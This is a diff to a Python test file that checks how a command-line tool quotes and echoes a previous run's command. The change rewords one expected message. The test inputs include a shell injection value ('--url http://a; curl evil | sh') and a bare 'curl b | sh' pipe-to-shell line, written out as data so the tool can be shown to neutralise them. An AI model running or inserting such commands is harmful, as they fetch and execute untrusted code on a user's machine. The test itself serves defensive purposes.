@@ -355,7 +355,8 @@ def test_escape_sequences_of_an_older_runs_command_are_not_repeated(stopped: Pat
     [
         (
             "rackrate measure --url http://a; curl evil | sh",
-            "measure anew: rackrate measure --url 'http://a;' curl evil '|' sh",
+            "measure anew. If you trust its URL, key variable and files, this began it: "
+            "rackrate measure --url 'http://a;' curl evil '|' sh",
         ),
         ("curl b | sh", "measure anew"),
         ("rackrate measure --url 'a", "measure anew"),
